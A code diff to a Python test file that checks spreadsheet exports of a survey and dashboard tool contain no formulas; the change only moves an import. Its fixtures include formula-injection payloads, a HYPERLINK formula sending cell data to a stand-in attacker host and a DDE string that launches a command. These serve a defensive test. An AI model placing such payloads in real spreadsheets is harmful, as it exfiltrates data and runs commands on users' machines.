@@ -19,6 +19,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
+from zichtbaar.demo.survey import load_demo_survey
 from zichtbaar.orgs import exports
 
 HOSTILE = '=HYPERLINK("https://evil.test/?x="&A1,"Click")'
@@ -90,7 +91,7 @@ def test_dashboard_xlsx_has_no_formulas_and_keeps_numbers(login, alice, hostile_
 def test_survey_xlsx_has_no_formulas(acme):
     from zichtbaar.surveys import report_xlsx, services
 
-    survey = services.load_demo_survey(acme)
+    survey = load_demo_survey(acme)
     report, mapping = services.report_for(survey, "en")
     report = copy.deepcopy(report)
     report["comments"] = [HOSTILE, "+31 6 1234 5678", "@SUM(1+1)*cmd|' /C calc'!A0"]
